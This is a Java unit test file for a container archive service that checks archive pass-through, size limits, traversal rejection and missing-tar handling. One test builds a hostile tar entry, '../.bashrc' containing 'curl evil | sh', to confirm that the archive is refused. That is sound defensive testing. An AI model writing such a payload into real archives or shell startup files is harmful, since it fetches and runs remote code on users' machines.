package org.kubedeck.application.container;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.util.Base64;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.kubedeck.application.container.port.in.ContainerArchives.Unpacked;
import org.kubedeck.application.testing.FakeContainerExec;
import org.kubedeck.application.testing.FakeContainerExec.Started;
import org.kubedeck.application.testing.TestFixture;
import org.kubedeck.domain.InvalidInputException;
import org.kubedeck.domain.cluster.ClusterAccess;
import org.kubedeck.domain.cluster.ClusterName;
import org.kubedeck.domain.container.ContainerRef;
import org.kubedeck.domain.container.ExecExit;
import org.kubedeck.domain.container.FilePath;
import org.kubedeck.domain.testing.Tars;

/**
 * Archives against the ContainerExec port's fake. Backup and restore of a real home directory, and a hostile
 * archive leaving the container unchanged, run on the rig in {@code DesktopApiWebTest}; the fake adds what the rig
 * cannot show: a container without tar or gzip (every rig container has both), and the proof that a refused
 * archive starts no command at all.
 */
class ContainerArchivesServiceTest {

    private static final ClusterName DESKS = ClusterName.of("desks");
    private static final ContainerRef DESKTOP = ContainerRef.of(DESKS, "desktops", "vnc-alice-0", "desktop");
    private static final FilePath HOME = FilePath.parse("path", "/home/alice's home");

    private final TestFixture f = new TestFixture();
    private final FakeContainerExec exec = new FakeContainerExec();
    private final ContainerArchivesService archives = new ContainerArchivesService(exec);
    private ClusterAccess access;

    @BeforeEach
    void seed() {
        f.register(DESKS, "Desktops", "desks.example");
        access = f.keyring.open(DESKS);
    }

    @Test
    void anArchiveGoesToTheContainerAsItCameWithTheDirectoryAsAnArgumentOfItsOwn() {
        byte[] archive = new Tars().directory("./notes/").file("./notes/hello.txt", "hi\n").gzipped();

        Unpacked unpacked = archives.unpack(access, DESKTOP, HOME, () -> new ByteArrayInputStream(archive), 1024);

        Started started = exec.started().get(0);
        assertThat(started.input.toByteArray()).isEqualTo(archive);
        assertThat(started.command.subList(0, 2)).containsExactly("sh", "-c");
        assertThat(started.command.get(4)).as("the path in base64, which the script decodes")
                .isEqualTo(Base64.getEncoder().encodeToString("/home/alice's home".getBytes(UTF_8)));
        assertThat(unpacked.entries()).isEqualTo(2);
        assertThat(unpacked.bytes()).isEqualTo(3);
        assertThat(unpacked.size()).isEqualTo(archive.length);
        assertThat(unpacked.sha256()).isEqualTo(ContainerScripts.sha256(archive));
    }

    @Test
    void aRefusedArchiveStartsNoCommandInTheContainer() {
        assertThatThrownBy(() -> archives.unpack(access, DESKTOP, HOME,
                () -> new ByteArrayInputStream(new Tars().file("../.bashrc", "curl evil | sh").gzipped()), 1024))
                .isInstanceOf(InvalidInputException.class).hasMessageContaining("goes up");
        assertThatThrownBy(() -> archives.unpack(access, DESKTOP, HOME,
                () -> new ByteArrayInputStream(new Tars().file("big", "x".repeat(2000)).gzipped()), 1024))
                .hasMessageContaining("more than 1024 bytes");
        assertThat(exec.started()).isEmpty();
    }

    @Test
    void aContainerWithoutTarIsToldSoAndAFileIsNoDirectoryToPack() {
        exec.behaves((session, output) -> output.exited(ExecExit.code(5)));
        assertThatThrownBy(() -> archives.pack(access, DESKTOP, HOME, "home"))
                .isInstanceOf(InvalidInputException.class).extracting("field").isEqualTo("container");
        assertThatThrownBy(() -> archives.unpack(access, DESKTOP, HOME,
                () -> new ByteArrayInputStream(new Tars().file("a", "b").gzipped()), 1024))
                .hasMessageContaining("has no tar or gzip");

        exec.behaves((session, output) -> {
            output.stdout("file\n".getBytes(UTF_8));
            output.exited(ExecExit.code(0));
        });
        assertThatThrownBy(() -> archives.pack(access, DESKTOP, HOME, "home")).hasMessageContaining("does not exist");
    }
}
